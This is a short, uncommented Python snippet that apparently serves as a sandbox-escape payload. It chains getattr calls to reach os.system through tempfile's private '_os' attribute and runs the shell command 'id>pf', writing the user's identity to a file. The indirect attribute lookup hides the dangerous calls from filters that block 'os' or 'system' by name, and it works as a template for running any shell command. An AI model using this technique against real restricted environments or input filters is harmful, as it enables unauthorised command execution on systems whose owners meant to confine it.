import tempfile
class A:
    def pull(self, thing, *names):
        for n in names:
            thing = getattr(thing, n)
        return thing
A().pull(tempfile, "_os", "system")("id>pf")
